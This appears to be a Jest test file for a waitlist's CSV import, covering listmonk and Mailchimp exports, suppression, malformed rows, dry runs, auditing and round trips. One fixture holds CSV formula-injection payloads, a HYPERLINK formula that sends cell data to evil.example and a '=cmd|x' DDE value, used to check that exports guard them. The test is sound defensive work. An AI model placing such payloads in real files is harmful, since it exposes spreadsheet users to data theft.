// The import operation on a real SQLite store, with export files as listmonk and Mailchimp write
// them (scripts/lib/import-files.ts) and as this site writes them: what each row becomes, what is
// refused and suppressed, what is skipped and at which line, the dry run, running it twice, and
// the round trip of the site's own export.
import { Readable } from 'node:stream';
import { openSqliteStore, type SqliteStore } from '../../../server/store';
import { importList, type ImportInput, type ImportResult } from '../../../server/waitlist/import';
import { exportSignups } from '../../../server/waitlist/listing';
import { tempDataDir } from '../../support/config';
import {
  listmonkExport,
  mailchimpExport,
  mailchimpFileName,
  type MailchimpStatus,
} from '../../../scripts/lib/import-files';
import { composeInvitation } from '../../support/stores';
import type { SignupSource } from '../../../shared/sources';

const NOW = Date.parse('2026-06-01T12:00:00.000Z');
const CLI = { account: 'cli' };

let store: SqliteStore;
let time: number;
beforeEach(() => {
  time = NOW;
  store = openSqliteStore({ dataDir: tempDataDir() }, () => time);
});
afterEach(() => store.close());

/** Imports `file` (text or bytes) into the store, in chunks as a stream brings them. */
function run(file: string | Buffer, input: Partial<ImportInput> = {}): Promise<ImportResult> {
  const bytes = Buffer.isBuffer(file) ? file : Buffer.from(file);
  const chunks = Array.from({ length: Math.ceil(bytes.length / 1000) }, (_, i) =>
    bytes.subarray(i * 1000, (i + 1) * 1000),
  );
  return importList(
    { store, config: { backendUrl: undefined }, now: () => time },
    { source: Readable.from(chunks), fileName: 'list.csv', actor: CLI, ...input },
  );
}

async function report(file: string | Buffer, input: Partial<ImportInput> = {}) {
  const result = await run(file, input);
  if (result.kind !== 'done') throw new Error(`not imported: ${JSON.stringify(result)}`);
  return result.report;
}

/** The export as the CLI writes it. */
async function exported(): Promise<string> {
  let text = '';
  for await (const chunk of exportSignups({ store })) text += chunk;
  return text;
}

const rowsByEmail = async () =>
  Object.fromEntries((await store.signups.list()).map((row) => [row.email, row]));

describe("listmonk's export", () => {
  const file = listmonkExport([
    {
      email: 'ann@example.org',
      name: 'Ann, "the first"',
      attributes: { city: 'Bengaluru', note: 'line one\nline two' },
      status: 'enabled',
      createdAt: '2024-03-01T10:20:30.123Z',
    },
    {
      email: 'zoë@exämple.org',
      name: ' Zoë',
      status: 'enabled',
      createdAt: '2024-03-02T00:00:00.000Z',
    },
    { email: 'почта@пример.рф', status: 'disabled', createdAt: '2024-03-03T00:00:00.000Z' },
    { email: 'spam@example.org', status: 'blocklisted', createdAt: '2024-03-04T00:00:00.000Z' },
  ]);

  it('brings enabled rows in confirmed when they joined, disabled unconfirmed; blocklisted suppressed', async () => {
    const result = await report(file);
    expect(result).toMatchObject({
      format: 'listmonk',
      rows: 4,
      added: { count: 3, lines: [2, 3, 4] },
      refused: { blocklisted: { count: 1, lines: [5] } },
    });
    const rows = await rowsByEmail();
    expect(rows['ann@example.org']).toMatchObject({
      created_at: '2024-03-01T10:20:30.123Z',
      confirmed_at: '2024-03-01T10:20:30.123Z',
      state: 'waitlisted',
      description: '',
    });
    expect(rows['zoë@exämple.org']).toMatchObject({ state: 'waitlisted' });
    expect(rows['почта@пример.рф']).toMatchObject({ state: 'unconfirmed', confirmed_at: null });
    expect(rows['spam@example.org']).toBeUndefined();
    expect(await store.suppressions.has('SPAM@example.org')).toBe(true);
    expect(await store.imports.awaitingConfirmation()).toBe(1);
  });

  it('--unconfirmed: every row comes in unconfirmed; --map reads the name as the description', async () => {
    await report(file, { unconfirmed: true, map: { name: 'description' } });
    const rows = await rowsByEmail();
    expect(Object.values(rows).map((row) => row.state)).toEqual([
      'unconfirmed',
      'unconfirmed',
      'unconfirmed',
    ]);
    expect(rows['ann@example.org'].description).toBe('Ann, "the first"');
    expect(rows['zoë@exämple.org'].description).toBe(' Zoë');
  });
});

describe("Mailchimp's audience export, one file a status", () => {
  const members = (status: MailchimpStatus) =>
    mailchimpExport(status, [
      {
        email: `${status}@example.org`,
        firstName: 'Jo Ann',
        notes: 'met at "EmacsConf", then,\r\nwrote twice',
        optinTime: '2023-05-01T08:00:00.000Z',
        confirmTime: '2023-05-01T08:05:00.000Z',
        lastChanged: '2024-01-01T00:00:00.000Z',
      },
      { email: `${status}.ünï@exämple.org`, lastChanged: '2024-02-02T02:02:02.000Z' },
    ]);
  const importFile = (status: MailchimpStatus) =>
    report(members(status), { fileName: mailchimpFileName(status) });

  it('brings subscribed members in confirmed at their confirmation, or when last changed', async () => {
    expect(await importFile('subscribed')).toMatchObject({
      format: 'mailchimp',
      added: { count: 2 },
    });
    const rows = await rowsByEmail();
    expect(rows['subscribed@example.org']).toMatchObject({
      created_at: '2023-05-01T08:00:00.000Z',
      confirmed_at: '2023-05-01T08:05:00.000Z',
      state: 'waitlisted',
    });
    expect(rows['subscribed.ünï@exämple.org']).toMatchObject({
      created_at: '2024-02-02T02:02:02.000Z',
      confirmed_at: '2024-02-02T02:02:02.000Z',
    });
  });

  it('brings non-subscribed contacts in unconfirmed', async () => {
    await importFile('nonsubscribed');
    const rows = await rowsByEmail();
    expect(Object.values(rows).map((row) => row.state)).toEqual(['unconfirmed', 'unconfirmed']);
  });

  it('adds no unsubscribed or cleaned member, and suppresses each', async () => {
    expect(await importFile('unsubscribed')).toMatchObject({
      added: { count: 0 },
      refused: { unsubscribed: { count: 2, lines: [2, 4] } },
    });
    expect(await importFile('cleaned')).toMatchObject({
      refused: { cleaned: { count: 2, lines: [2, 4] } },
    });
    expect(await store.signups.count()).toBe(0);
    const suppressed = await store.suppressions.suppressedAmong([
      'unsubscribed@example.org',
      'cleaned.ünï@exämple.org',
      'subscribed@example.org',
    ]);
    expect(suppressed).toEqual(new Set(['unsubscribed@example.org', 'cleaned.ünï@exämple.org']));
  });
});

describe("this site's own export", () => {
  /** A list with every state, sources, and the awkward texts a description may hold. */
  async function fillList() {
    const add = async (
      email: string,
      description = '',
      options = {},
      language?: 'ru',
      source?: SignupSource,
    ) => {
      await store.signups.add({ email, description, language, source }, options);
      time += 1_000;
    };
    await add(
      'Waiting@Example.org',
      '=HYPERLINK("https://evil.example/?"&A2)\r\n+1, "two"',
      {},
      undefined,
      { utm_source: '=cmd|x', utm_medium: 'social', utm_campaign: 'launch, "day one"' },
    );
    await add('unconfirmed@example.org', "it's\tme;=1", { confirm: true }, 'ru');
    await add('invited@example.org', '-x');
    await store.subscriptions.invite('invited@example.org', {
      again: false,
      compose: composeInvitation,
    });
    await add('activated@example.org', '@home', {}, undefined, { referrer: 'news.example.com' });
    const key = await store.subscriptions.issueKey('activated@example.org');
    await store.subscriptions.activate('activated@example.org', key);
    await add('bounced@example.org');
    const mail = await store.subscriptions.invite('bounced@example.org', {
      again: false,
      compose: composeInvitation,
    });
    if (mail.outcome === 'invited') await store.mail.failed(mail.mail.id, '550', true);
    // Two signups of the same millisecond: their order is the ids'.
    await store.signups.add({ email: 'tie-1@example.org', description: '' });
    await store.signups.add({ email: 'tie-2@example.org', description: '' });
  }

  it('exports, once imported into an empty store, as the same file, byte for byte', async () => {
    await fillList();
    const file = await exported();
    expect(file).toContain("'=HYPERLINK");
    // The source columns come back too: a campaign with a comma and quotes, a guarded formula.
    expect(file).toContain('"\'=cmd|x","social","launch, ""day one""",""');
    expect(file).toContain('"news.example.com"');
    await store.close();
    store = openSqliteStore({ dataDir: tempDataDir() }, () => time);
    const result = await report(file);
    expect(result).toMatchObject({ format: 'site', rows: 7, added: { count: 7 } });
    expect(await exported()).toBe(file);
  });

  it('imports again as nothing new, and leaves the list as it was', async () => {
    await fillList();
    const file = await exported();
    const again = await report(file);
    expect(again).toMatchObject({ added: { count: 0 }, alreadyThere: { count: 7 } });
    // The oldest row's description spans lines 8 and 9.
    expect(again.alreadyThere.lines).toEqual([2, 3, 4, 5, 6, 7, 8]);
    expect(await exported()).toBe(file);
  });

  it('keeps the order of signups of the same millisecond, across batches too', async () => {
    for (const [at, n] of [
      [NOW, 700],
      [NOW + 1, 700],
    ]) {
      time = at;
      for (let i = 0; i < n; i++)
        await store.signups.add({ email: `t${at - NOW}-${i}@example.org`, description: '' });
    }
    const file = await exported();
    await store.close();
    store = openSqliteStore({ dataDir: tempDataDir() }, () => time);
    expect((await report(file)).added.count).toBe(1_400);
    expect(await exported()).toBe(file);
  });

  it('leaves an address the mail server refused undeliverable, whatever the file says', async () => {
    await fillList();
    const rows = await rowsByEmail();
    expect(rows['bounced@example.org'].state).toBe('undeliverable');
    await report('email,confirmed_at,state\r\nbounced@example.org,2020-01-01,waitlisted\r\n');
    expect((await rowsByEmail())['bounced@example.org']).toEqual(rows['bounced@example.org']);
  });
});

describe("a provider's bounces and complaints (decision 0038)", () => {
  it('keeps a hard-bounced address undeliverable and a complained one out, whatever the file says', async () => {
    for (const email of ['hard@example.org', 'spam@example.org'])
      await store.signups.add({ email, description: '' });
    const notice = { detail: 'Permanent/General 5.1.1' };
    await store.bounces.apply('ses', {
      ...notice,
      id: 'm/0',
      email: 'hard@example.org',
      kind: 'permanent',
    });
    await store.bounces.apply('ses', {
      ...notice,
      id: 'm/1',
      email: 'spam@example.org',
      kind: 'complaint',
    });
    const before = (await rowsByEmail())['hard@example.org'];
    expect(before.state).toBe('undeliverable');

    const result = await report(
      'email,confirmed_at,state\r\n' +
        'hard@example.org,2020-01-01,waitlisted\r\n' +
        'Spam@Example.org,2020-01-01,waitlisted\r\n',
    );
    expect(result).toMatchObject({ added: { count: 0 }, suppressed: { count: 1, lines: [3] } });
    expect((await rowsByEmail())['hard@example.org']).toEqual(before);
    expect((await rowsByEmail())['spam@example.org']).toBeUndefined();
  });
});

describe('what is skipped', () => {
  it('reports each malformed row by kind, with its line; the rest go in', async () => {
    const file = [
      'email,description,created_at,state',
      'ok@example.org,fine,2025-01-01T00:00:00Z,',
      'not an address,,,',
      'date@example.org,,2025-02-30,',
      'quote@example.org,"never closed,,',
      'fields@example.org,too,many,fields,here',
      'state@example.org,,,lost',
      'long@example.org,' + 'x'.repeat(2001) + ',,',
      'ok2@example.org,"two\nlines",2025-01-02 03:04:05,',
      '',
    ].join('\n');
    const result = await report(file);
    expect(result).toMatchObject({
      rows: 8,
      added: { count: 2, lines: [2, 9] },
      errors: {
        'bad-address': { count: 1, lines: [3] },
        'bad-date': { count: 1, lines: [4] },
        'bad-value': { count: 2, lines: [7, 8] },
        'broken-row': { count: 2, lines: [5, 6] },
      },
    });
    expect((await rowsByEmail())['ok2@example.org']).toMatchObject({
      description: 'two\nlines',
      created_at: '2025-01-02T03:04:05.000Z',
    });
  });

  it('skips a suppressed address and says where it was', async () => {
    await store.suppressions.add(['left@example.org'], 'left');
    const result = await report('email\nnew@example.org\nLeft@Example.org\n');
    expect(result).toMatchObject({
      added: { count: 1 },
      suppressed: { count: 1, lines: [3] },
    });
    expect(await store.signups.count()).toBe(1);
  });

  it('lists the first 20 lines of a kind, and counts them all', async () => {
    const bad = Array.from({ length: 30 }, (_, i) => `bad${i}`).join('\n');
    const result = await report(`email\n${bad}\n`);
    expect(result.errors['bad-address'].count).toBe(30);
    expect(result.errors['bad-address'].lines).toEqual(Array.from({ length: 20 }, (_, i) => i + 2));
  });
});

describe('a file that is not CSV', () => {
  const notCsv: [string, string | Buffer, string][] = [
    [
      'an image',
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0x00]),
      'unreadable-header',
    ],
    ['JSON', '[\n  { "email": "ann@example.org" }\n]\n', 'no-address-column'],
    ['an empty file', '', 'empty'],
    ['a broken header', '"email,name\nann@example.org,x\n', 'unreadable-header'],
  ];

  it.each(notCsv)('stops at %s and stores nothing', async (_name, file, why) => {
    const result = await run(file);
    expect(result).toMatchObject({ kind: 'not-csv', why: { kind: why } });
    expect(await store.signups.count()).toBe(0);
    expect(await store.audit.list({ limit: 10 })).toEqual([]);
  });

  it('stops when --map names a column the file lacks', async () => {
    expect(await run('E-mail\nann@example.org\n', { map: { Mail: 'email' } })).toMatchObject({
      kind: 'not-csv',
      why: { kind: 'mapped-column-missing', column: 'mail' },
    });
  });

  it('reads any other file through --map, as this site reads its own', async () => {
    const file = 'Joined,E-mail,Note\n2025-05-05,ann@example.org,hi\n';
    const result = await report(file, {
      map: { 'e-mail': 'email', JOINED: 'created_at', note: 'description' },
    });
    expect(result.format).toBe('mapped');
    expect((await rowsByEmail())['ann@example.org']).toMatchObject({
      created_at: '2025-05-05T00:00:00.000Z',
      description: 'hi',
      state: 'unconfirmed',
    });
  });
});

describe('a dry run, the batches and the audit', () => {
  const file = listmonkExport(
    Array.from({ length: 3_000 }, (_, i) => ({
      email: `p${i}@example.org`,
      status: i % 100 === 0 ? ('blocklisted' as const) : ('enabled' as const),
      createdAt: new Date(Date.parse('2024-01-01T00:00:00Z') + i * 60_000).toISOString(),
    })),
  );

  it('reports what the import then does, and stores nothing', async () => {
    const dry = await report(file, { dryRun: true });
    expect(await store.signups.count()).toBe(0);
    expect(await store.suppressions.count()).toBe(0);
    expect(await store.audit.list({ limit: 10 })).toEqual([]);
    const real = await report(file);
    expect({ ...dry, dryRun: false }).toEqual(real);
    expect(real).toMatchObject({
      added: { count: 2_970 },
      refused: { blocklisted: { count: 30 } },
    });
  });

  it('tells each committed batch, in order, with what is stored by then', async () => {
    const seen: [number, number, number][] = [];
    await report(file, {
      onBatch: async (so, line) => {
        seen.push([line, so.added.count, await store.signups.count()]);
      },
    });
    expect(seen.length).toBeGreaterThan(1);
    for (const [i, [line, added, stored]] of seen.entries()) {
      expect(stored).toBe(added);
      if (i > 0) expect(line).toBeGreaterThan(seen[i - 1][0]);
    }
    expect(seen.at(-1)).toEqual([3_001, 2_970, 2_970]);
  });

  it('records who imported which file and the counts, never an address', async () => {
    await report(file, {
      fileName: '/home/ops/exports/subscribers.csv',
      actor: { account: 'ops@example.org', client: '203.0.113.9' },
    });
    const [entry] = await store.audit.list({ limit: 10 });
    expect(entry).toMatchObject({
      account: 'ops@example.org',
      client: '203.0.113.9',
      action:
        'import "subscribers.csv" (listmonk): 2970 added, 0 already there, 0 suppressed, ' +
        '30 refused, 0 with errors',
      addresses: 2_970,
    });
  });

  it('names no address in the log, not even in the file name', async () => {
    await report('email\nann@example.org\n', { fileName: 'from ann@example.org.csv' });
    const [entry] = await store.audit.list({ limit: 1 });
    expect(entry.action).toMatch(/^import "from \(an address\)" \(site\): 1 added/);
  });

  it('refuses with BACKEND_URL: the signups live in the backend', async () => {
    const result = await importList(
      { store, config: { backendUrl: 'http://127.0.0.1:9' } },
      { source: Readable.from([file]), fileName: 'x.csv', actor: CLI },
    );
    expect(result).toEqual({ kind: 'refused', reason: 'backend-owns-signups' });
  });
});
